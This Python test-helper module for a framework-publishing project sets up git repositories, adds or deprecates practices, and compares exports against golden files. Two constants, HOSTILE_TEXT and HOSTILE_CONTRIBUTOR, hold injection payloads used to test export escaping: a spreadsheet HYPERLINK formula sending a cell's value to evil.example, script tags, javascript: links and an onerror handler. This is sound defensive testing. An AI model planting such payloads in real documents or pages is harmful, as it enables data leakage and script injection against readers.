"""Helpers shared by the release, export and download tests."""

from __future__ import annotations

from pathlib import Path

import git

from dpi_safeguards import api
from dpi_safeguards.core.workspace import Workspace
from dpi_safeguards.load.folder import write_framework
from dpi_safeguards.models.base import Deprecation, ProvenanceRecord
from dpi_safeguards.models.framework import Practice

CONTRIBUTION = "contributions/merged/2026-02-offline-points.yaml"
NEW_PRACTICE_TEXT = "Publish the opening hours of offline service points."


def init_repo(root: Path) -> git.Repo:
    repo = git.Repo.init(root)
    with repo.config_writer() as config:
        config.set_value("user", "name", "Release Tester")
        config.set_value("user", "email", "release-tester@example.org")
        config.set_value("commit", "gpgsign", "false")
        config.set_value("tag", "gpgsign", "false")
    repo.git.add("--all")
    repo.git.commit("-m", "framework")
    return repo


def commit_all(root: Path, message: str) -> None:
    repo = git.Repo(root)
    repo.git.add("--all")
    repo.git.commit("-m", message)


def add_practice(root: Path, text: str = NEW_PRACTICE_TEXT, practice_id: str = "F3.1.3") -> None:
    """What merging an accepted contribution does: a new practice with its provenance."""
    workspace = Workspace(root)
    framework = api.load(workspace)
    framework.practices[practice_id] = Practice(
        id=practice_id,
        text=text,
        provenance=[
            ProvenanceRecord(
                source=CONTRIBUTION,
                contributors=["Asha Rao (Open Access Lab)"],
                reviewers=["Secretariat Reviewer"],
                date="2026-02-01",
            )
        ],
    )
    write_framework(framework, workspace.framework_dir)


def deprecate(root: Path, entry_id: str, reason: str = "Merged into another entry.") -> None:
    workspace = Workspace(root)
    framework = api.load(workspace)
    kind = framework.kind_of(entry_id)
    assert kind is not None
    table = framework.table(kind)
    table[entry_id] = table[entry_id].model_copy(
        update={"deprecated": Deprecation(version="unreleased", reason=reason)}
    )
    write_framework(framework, workspace.framework_dir)


def fix_text(root: Path, practice_id: str = "F3.1.1") -> None:
    workspace = Workspace(root)
    framework = api.load(workspace)
    practice = framework.practices[practice_id]
    framework.practices[practice_id] = practice.model_copy(
        update={"text": practice.text.replace("underserved", "under-served")}
    )
    write_framework(framework, workspace.framework_dir)


def tree_bytes(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


HOSTILE_TEXT = (
    '=HYPERLINK("https://evil.example/?q="&A1,"Click") | pipes | and <script>alert(1)</script> '
    "[a link](javascript:alert(1)) *not bold* _not italic_ `not code`\n"
    "# not a heading\n- not a list item"
)
HOSTILE_CONTRIBUTOR = "Eve <img src=x onerror=alert(1)> *Mallory* | [x](javascript:alert(2))"


def add_hostile_practice(root: Path) -> None:
    """A contributed practice whose text and contributor name try every injection."""
    workspace = Workspace(root)
    framework = api.load(workspace)
    framework.practices["F3.1.3"] = Practice(
        id="F3.1.3",
        text=HOSTILE_TEXT,
        authorities=["R4"],
        provenance=[
            ProvenanceRecord(
                source="contributions/merged/2026-02-hostile.yaml",
                contributors=[HOSTILE_CONTRIBUTOR],
                reviewers=["Secretariat Reviewer"],
                date="2026-02-01",
            )
        ],
    )
    write_framework(framework, workspace.framework_dir)


def compare_golden(folder: Path, files: dict[str, bytes]) -> None:
    """``files`` (path -> bytes) against the golden folder, byte for byte; with
    UPDATE_GOLDEN=1 set, the folder is rewritten from them first."""
    import os
    import shutil

    if os.environ.get("UPDATE_GOLDEN"):
        shutil.rmtree(folder, ignore_errors=True)
        for path, data in files.items():
            (folder / path).parent.mkdir(parents=True, exist_ok=True)
            (folder / path).write_bytes(data)
    golden = tree_bytes(folder)
    assert sorted(files) == sorted(golden), folder.name
    differing = [p for p in files if files[p] != golden[p]]
    assert not differing, f"differ from {folder}: {differing}"
